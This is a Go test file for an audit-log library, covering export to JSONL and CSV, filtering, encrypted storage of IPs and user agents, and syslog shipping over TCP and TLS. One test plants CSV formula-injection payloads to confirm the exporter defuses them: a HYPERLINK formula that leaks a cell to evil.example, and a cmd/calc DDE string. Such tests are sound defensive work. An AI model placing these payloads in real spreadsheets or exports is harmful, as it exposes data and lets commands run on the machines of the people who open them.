package audit_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hesar/hesar/internal/audit"
)

func TestExportRoundTrip(t *testing.T) {
	eachKind(t, func(t *testing.T, e *env) {
		e.write(t, 6)
		evil := e.entry(7)
		evil.UserAgent = `=HYPERLINK("http://evil.example/?"&A1,"click")`
		evil.RequestID = "+cmd|' /C calc'!A0"
		evil.Action = "customer.export"
		if err := e.log.Write(ctx, evil); err != nil {
			t.Fatal(err)
		}
		e.seal(t)
		want, err := e.log.List(ctx, e.ws, audit.Filter{})
		if err != nil {
			t.Fatal(err)
		}

		var jl bytes.Buffer
		if err := e.log.Export(ctx, e.ws, audit.Filter{}, "jsonl", &jl); err != nil {
			t.Fatal(err)
		}
		var got []audit.Record
		sc := bufio.NewScanner(&jl)
		for sc.Scan() {
			var r audit.Record
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatalf("line %q: %v", sc.Text(), err)
			}
			got = append(got, r)
		}
		if len(got) != 7 {
			t.Fatalf("jsonl has %d records, want 7", len(got))
		}
		for i, r := range got { // export is oldest first, List newest first
			w := want[len(want)-1-i]
			if r.Seq != w.Seq || r.IP != w.IP || r.UserAgent != w.UserAgent || r.Action != w.Action || !r.At.Equal(w.At) ||
				!bytes.Equal(r.Hash, w.Hash) || r.Details["via"] != w.Details["via"] || r.RequestID != w.RequestID {
				t.Errorf("record %d: got %+v, want %+v", i, r, w)
			}
		}

		var cb bytes.Buffer
		if err := e.log.Export(ctx, e.ws, audit.Filter{Action: "customer."}, "csv", &cb); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&cb).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv: %v %q", err, rows)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		r := rows[1]
		if r[col["user_agent"]] != "'"+evil.UserAgent || r[col["request_id"]] != "'"+evil.RequestID {
			t.Errorf("formula cells not defused: %q", r)
		}
		if r[col["ip"]] != "203.0.113.7" || r[col["seq"]] != "7" || r[col["action"]] != "customer.export" {
			t.Errorf("csv row %q", r)
		}

		// Filters.
		for _, c := range []struct {
			f    audit.Filter
			want int
		}{
			{audit.Filter{Action: "ticket."}, 6},
			{audit.Filter{Action: "ticket.view", ActorID: 1003}, 1},
			{audit.Filter{TargetKind: "ticket", TargetID: 2}, 1},
			{audit.Filter{ActorKind: "customer"}, 0},
			{audit.Filter{Since: time.Now().Add(-time.Hour), Until: time.Now().Add(time.Hour)}, 7},
			{audit.Filter{Until: time.Now().Add(-time.Hour)}, 0},
			{audit.Filter{Before: 4}, 3},
			{audit.Filter{Limit: 2}, 2},
		} {
			recs, err := e.log.List(ctx, e.ws, c.f)
			if err != nil || len(recs) != c.want {
				t.Errorf("list %+v: %d records (%v), want %d", c.f, len(recs), err, c.want)
			}
		}
	})
}

// TestRawDatabaseHoldsNoPlaintextIPOrAgent reads every audit column as
// stored: the IP address and user agent appear nowhere.
func TestRawDatabaseHoldsNoPlaintextIPOrAgent(t *testing.T) {
	eachKind(t, func(t *testing.T, e *env) {
		x := e.entry(1)
		x.IP, x.UserAgent = "198.51.100.201", "PlantedAgent/9.9 (canary)"
		if err := e.log.Write(ctx, x); err != nil {
			t.Fatal(err)
		}
		e.seal(t)
		rows, err := e.db.Read().QueryContext(ctx, `SELECT * FROM audit_log WHERE workspace_id = $1`, e.ws)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		cols, _ := rows.Columns()
		n := 0
		for rows.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			for i, v := range vals {
				s := fmt.Sprint(v)
				if b, ok := v.([]byte); ok {
					s = string(b)
				}
				for _, planted := range []string{"198.51.100.201", "PlantedAgent", "canary"} {
					if strings.Contains(s, planted) {
						t.Errorf("column %s holds %q in plaintext", cols[i], planted)
					}
				}
			}
			n++
		}
		if n != 1 {
			t.Fatalf("%d rows", n)
		}
	})
}

var frameRE = regexp.MustCompile(`^<(\d+)>1 (\S+) (\S+) (\S+) - (\S+) \[hesar@32473 workspace="(\d+)" seq="(\d+)" id="(\d+)" result="(\w+)"\] (.*)$`)

// readFrames parses n octet-counted RFC 5424 messages (RFC 6587).
func readFrames(r *bufio.Reader, n int) ([]audit.Record, error) {
	var out []audit.Record
	for range n {
		lenStr, err := r.ReadString(' ')
		if err != nil {
			return out, fmt.Errorf("frame length: %w", err)
		}
		size, err := strconv.Atoi(strings.TrimSpace(lenStr))
		if err != nil {
			return out, fmt.Errorf("frame length %q", lenStr)
		}
		msg := make([]byte, size)
		if _, err := io.ReadFull(r, msg); err != nil {
			return out, err
		}
		m := frameRE.FindSubmatch(msg)
		if m == nil {
			return out, fmt.Errorf("not an RFC 5424 message: %q", msg)
		}
		if _, err := time.Parse(time.RFC3339Nano, string(m[2])); err != nil {
			return out, fmt.Errorf("timestamp %q: %w", m[2], err)
		}
		var rec audit.Record
		if err := json.Unmarshal(m[10], &rec); err != nil {
			return out, fmt.Errorf("msg %q: %w", m[10], err)
		}
		if string(m[1]) != "110" || string(m[5]) != rec.Action || string(m[7]) != strconv.FormatInt(rec.Seq, 10) {
			return out, fmt.Errorf("header %q does not match record %+v", m[0][:80], rec)
		}
		out = append(out, rec)
	}
	return out, nil
}

func TestShipSyslogOverTCPAndTLS(t *testing.T) {
	eachKind(t, func(t *testing.T, e *env) {
		e.write(t, 5)
		for _, scheme := range []string{"tcp", "tls"} {
			t.Run(scheme, func(t *testing.T) {
				var ln net.Listener
				var err error
				var client *tls.Config
				if scheme == "tcp" {
					ln, err = net.Listen("tcp", "127.0.0.1:0")
				} else {
					var server *tls.Config
					server, client = testTLS(t)
					ln, err = tls.Listen("tcp", "127.0.0.1:0", server)
				}
				if err != nil {
					t.Fatal(err)
				}
				defer ln.Close()
				type result struct {
					recs []audit.Record
					err  error
				}
				got := make(chan result, 1)
				go func() {
					c, err := ln.Accept()
					if err != nil {
						got <- result{err: err}
						return
					}
					defer c.Close()
					recs, err := readFrames(bufio.NewReader(c), 6)
					got <- result{recs, err}
				}()
				sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
				defer cancel()
				done := make(chan int64, 1)
				go func() {
					next, _ := e.log.ShipTo(sctx, scheme+"://"+ln.Addr().String(), client,
						audit.ShipOptions{WorkspaceID: e.ws, FromSeq: 2, Follow: true, Poll: 20 * time.Millisecond, Hostname: "hesar-test"})
					done <- next
				}()
				// Records sealed while shipping follow.
				time.Sleep(100 * time.Millisecond)
				e.write(t, 2)
				var recs []audit.Record
				select {
				case res := <-got:
					if res.err != nil {
						t.Fatalf("after %d frames: %v", len(res.recs), res.err)
					}
					recs = res.recs
				case <-sctx.Done():
					t.Fatal("no frames")
				}
				cancel()
				for i, r := range recs {
					if r.Seq != int64(i+2) || r.IP == "" {
						t.Errorf("frame %d: %+v", i, r)
					}
				}
				if next := <-done; next < 8 {
					t.Errorf("resume point %d, want ≥ 8", next)
				}
			})
		}
		var out bytes.Buffer
		next, err := e.log.Ship(ctx, &out, audit.ShipOptions{WorkspaceID: e.ws, FromSeq: 6})
		if err != nil || next < 8 || strings.Count(out.String(), "\n") != int(next-6) {
			t.Errorf("ship jsonl: %d %v\n%s", next, err, out.String())
		}
	})
}

// testTLS returns a server config with a fresh self-signed certificate
// for 127.0.0.1 and a client config trusting only it.
func testTLS(t *testing.T) (server, client *tls.Config) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "siem.test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, _ := x509.ParseCertificate(der)
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}, MinVersion: tls.VersionTLS12},
		&tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}
}
